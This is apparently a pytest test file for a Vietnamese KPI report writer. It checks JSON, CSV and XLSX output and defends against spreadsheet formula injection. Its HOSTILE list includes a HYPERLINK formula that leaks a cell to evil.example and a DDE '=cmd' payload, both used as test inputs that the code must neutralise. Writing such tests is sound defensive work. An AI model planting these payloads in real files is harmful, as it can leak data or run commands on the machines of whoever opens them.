"""bcd35.report.writers and safe: kpi_Y.json, kpi_Y.csv, bao_cao_kpi_Y.xlsx; formula safety."""

from __future__ import annotations

import csv
import dataclasses
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from bcd35.report.kpis import KpiRow, ReportData
from bcd35.report.safe import looks_like_formula, safe_text
from bcd35.report.writers import INT_FORMAT, report_json, write_csv, write_json, write_xlsx

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "report" / "report_data_2024.json"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",  # full-width equals sign
    "=cmd|' /C calc'!A0",
]


def sample() -> ReportData:
    return ReportData.from_dict(json.loads(FIXTURE.read_text(encoding="utf-8")))


def with_values(data: ReportData, **values) -> ReportData:
    kpis = [dataclasses.replace(k, value=values[k.code]) if k.code in values else k
            for k in data.kpis]
    return dataclasses.replace(data, kpis=kpis)


def hostile_data() -> ReportData:
    """Every text the writers put in a cell replaced by a formula-like value."""
    data = sample()
    kpis = [KpiRow(code=HOSTILE[i % len(HOSTILE)], name_vi=HOSTILE[(i + 1) % len(HOSTILE)],
                   unit_vi=HOSTILE[(i + 2) % len(HOSTILE)], value=i, target=None,
                   previous_year=None, pct_of_target=None)
            for i in range(len(HOSTILE))]
    manifest = {**data.manifest,
                "sources": [{"file": name, "kind": name, "rows": 1, "sha256": "ab" * 32}
                            for name in HOSTILE]}
    committee = dataclasses.replace(data.committee, name_vi=HOSTILE[0])
    return dataclasses.replace(data, kpis=kpis, manifest=manifest, committee=committee,
                               monthly={k.code: [1] * 12 for k in kpis})


def csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def by_code(rows: list[list[str]]) -> dict[str, list[str]]:
    return {r[0]: r for r in rows[1:]}


# --------------------------------------------------------------------------------------------
# Formula safety
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_text_prefixes_formula_like_text(value):
    assert looks_like_formula(value)
    assert safe_text(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Hội nghị", "9.960", "Tin bài dẫn nguồn, đăng tải",
                                   "a=b", "1-2", "tin bài/ngày"])
def test_safe_text_leaves_ordinary_text_alone(value):
    assert safe_text(value) == value


def test_csv_never_starts_a_text_field_with_a_formula(tmp_path):
    path = tmp_path / "kpi.csv"
    write_csv(path, hostile_data())
    rows = csv_rows(path)
    texts = [field for row in rows[1:] for field in row[:3]]
    assert texts, "no rows written"
    for field in texts:
        assert not looks_like_formula(field), repr(field)
        assert field.startswith("'") and field[1:] in HOSTILE


def test_xlsx_stores_hostile_text_as_plain_text_cells(tmp_path):
    path = tmp_path / "kpi.xlsx"
    write_xlsx(path, hostile_data())
    with zipfile.ZipFile(path) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 3
        for name in sheets:
            assert "<f>" not in zf.read(name).decode("utf-8"), f"formula element in {name}"
    book = openpyxl.load_workbook(path)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                # xlsx escapes a carriage return as _x000D_ (Excel reads it back as \r)
                text = cell.value.replace("_x000D_", "\r") if isinstance(cell.value, str) else None
                if text in HOSTILE:
                    seen.add(text)
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}: no quotePrefix"
    assert seen == set(HOSTILE)  # stored unchanged, not with a visible apostrophe


# --------------------------------------------------------------------------------------------
# JSON
# --------------------------------------------------------------------------------------------


def test_json_has_every_kpi_as_numbers_and_the_provenance(tmp_path):
    data = sample()
    path = tmp_path / "kpi.json"
    write_json(path, data)
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["year"] == 2024
    assert doc["run_id"] == data.manifest["run_id"]
    assert doc["validation"]["success"] is True
    assert doc["sources"] == data.manifest["sources"]
    assert [k["code"] for k in doc["kpis"]] == [k.code for k in data.kpis]
    for k in doc["kpis"]:
        assert {"code", "name_vi", "unit_vi", "value", "target", "previous_year"} <= set(k)
    values = {k["code"]: k for k in doc["kpis"]}
    assert values["ban_tin_so_cuon"]["value"] == 9960
    assert values["ban_tin_so_cuon"]["target"] == 9600
    assert values["fanpage_tin_bai_binh_quan_ngay"]["value"] == 1.53
    assert values["hoi_nghi_tong_so"]["previous_year"] is None


def test_json_keeps_no_data_as_null_not_zero():
    doc = report_json(with_values(sample(), hoi_nghi_tong_so=None, ban_tin_so_ky=0))
    values = {k["code"]: k["value"] for k in doc["kpis"]}
    assert values["hoi_nghi_tong_so"] is None
    assert values["ban_tin_so_ky"] == 0


# --------------------------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------------------------


def test_csv_has_vietnamese_labels_and_numbers(tmp_path):
    path = tmp_path / "kpi.csv"
    write_csv(path, sample())
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = csv_rows(path)
    assert rows[0] == ["Mã chỉ tiêu", "Tên chỉ tiêu", "Đơn vị tính", "Kết quả năm 2024",
                       "Kế hoạch năm 2024", "Tỷ lệ đạt kế hoạch (%)", "Kết quả năm 2023",
                       "Ghi chú"]
    rows_by = by_code(rows)
    assert rows_by["ban_tin_so_cuon"][1:7] == ["Số cuốn bản tin", "cuốn", "9.960", "9.600",
                                               "103,8", ""]
    assert rows_by["ctv_luot_tiep_can_tuong_tac"][3] == "2.435.999"
    assert rows_by["ctv_luot_tiep_can_tuong_tac"][6] == "21.708"
    assert rows_by["fanpage_tin_bai_binh_quan_ngay"][3] == "1,53"
    assert rows_by["hoi_nghi_thong_tin_thoi_su"][5] == "100"
    assert rows_by["hoi_nghi_thong_tin_thoi_su"][7] == "Chưa có số liệu năm 2023"
    assert len(rows) == 1 + len(sample().kpis)


def test_csv_writes_no_data_as_an_empty_cell_and_says_so(tmp_path):
    path = tmp_path / "kpi.csv"
    write_csv(path, with_values(sample(), ban_tin_so_cuon=None, ban_tin_so_ky=0))
    rows = by_code(csv_rows(path))
    assert rows["ban_tin_so_cuon"][3] == ""
    assert rows["ban_tin_so_cuon"][7].startswith("Chưa có số liệu năm 2024")
    assert rows["ban_tin_so_ky"][3] == "0"
    assert rows["ban_tin_so_ky"][7] == "Chưa có số liệu năm 2023"


# --------------------------------------------------------------------------------------------
# XLSX
# --------------------------------------------------------------------------------------------


def test_xlsx_integers_use_a_literal_dot_format(tmp_path):
    path = tmp_path / "kpi.xlsx"
    write_xlsx(path, sample())
    sheet = openpyxl.load_workbook(path)["Chỉ tiêu năm 2024"]
    header_row = next(r for r in sheet.iter_rows() if r[1].value == "Mã chỉ tiêu")
    assert [c.value for c in header_row] == [
        "STT", "Mã chỉ tiêu", "Tên chỉ tiêu", "Đơn vị tính", "Kết quả năm 2024",
        "Kế hoạch năm 2024", "Tỷ lệ đạt kế hoạch (%)", "Kết quả năm 2023", "Ghi chú"]
    rows = {r[1].value: r for r in sheet.iter_rows(min_row=header_row[0].row + 1)
            if r[1].value}
    copies = rows["ban_tin_so_cuon"]
    assert copies[4].value == 9960 and copies[4].data_type == "n"
    # the thousands mark is a quoted literal ".", not the locale's grouping ","
    assert copies[4].number_format == INT_FORMAT
    assert '"."' in INT_FORMAT and "," not in INT_FORMAT
    assert copies[5].value == 9600
    assert copies[6].value == pytest.approx(103.8)
    reach = rows["ctv_luot_tiep_can_tuong_tac"]
    assert reach[4].value == 2435999 and reach[4].number_format == INT_FORMAT
    assert reach[7].value == 21708
    assert rows["fanpage_tin_bai_binh_quan_ngay"][4].value == pytest.approx(1.53)
    assert rows["hoi_nghi_tong_so"][7].value is None
    assert rows["hoi_nghi_tong_so"][8].value == "Chưa có số liệu năm 2023"


def render_int_format(value: int) -> str:
    """A model of how a spreadsheet applies INT_FORMAT: the first section whose condition
    holds; digits fill the ``0``/``#`` slots from the right, the leftmost takes the rest."""
    for section in INT_FORMAT.split(";"):
        cond = re.match(r"\[>=(\d+)\]", section)
        if cond and value < int(cond[1]):
            continue
        pattern = re.sub(r"^\[[^\]]*\]", "", section).replace('"."', ".")
        digits, out = list(str(value)), []
        for ch in reversed(pattern):
            if ch == "0":
                out.append(digits.pop() if digits else "0")
            elif ch == "#":
                out.append("".join(digits))
                digits = []
            else:
                out.append(ch)
        out.append("".join(digits))
        return "".join(reversed(out))
    raise AssertionError(f"no section of {INT_FORMAT} applies to {value}")


@pytest.mark.parametrize(("value", "shown"), [(0, "0"), (12, "12"), (999, "999"),
                                              (1000, "1.000"), (9960, "9.960"),
                                              (841518, "841.518"), (2435999, "2.435.999")])
def test_int_format_shows_vietnamese_grouping(value, shown):
    assert render_int_format(value) == shown


def test_xlsx_monthly_sheet_leaves_no_data_years_blank(tmp_path):
    path = tmp_path / "kpi.xlsx"
    data = with_values(sample(), ban_tin_so_cuon=None)
    write_xlsx(path, data)
    sheet = openpyxl.load_workbook(path)["Theo tháng"]
    rows = {r[1].value: r for r in sheet.iter_rows() if r[1].value}
    assert [c.value for c in rows["Mã chỉ tiêu"][4:16]] == [f"T{m}" for m in range(1, 13)]
    assert [c.value for c in rows["hoi_nghi_thong_tin_thoi_su"][4:17]] == \
        [7, 9, 8, 6, 10, 8, 9, 10, 5, 10, 7, 7, 96]
    assert all(c.value is None for c in rows["ban_tin_so_cuon"][4:17])


def test_xlsx_sources_sheet_lists_every_file(tmp_path):
    path = tmp_path / "kpi.xlsx"
    data = sample()
    write_xlsx(path, data)
    sheet = openpyxl.load_workbook(path)["Nguồn số liệu"]
    hashes = {r[4].value for r in sheet.iter_rows() if r[4].value and len(r[4].value) == 64}
    assert hashes == {s["sha256"] for s in data.manifest["sources"]}


def test_xlsx_is_the_same_bytes_for_the_same_build(tmp_path):
    write_xlsx(tmp_path / "a.xlsx", sample())
    write_xlsx(tmp_path / "b.xlsx", sample())
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
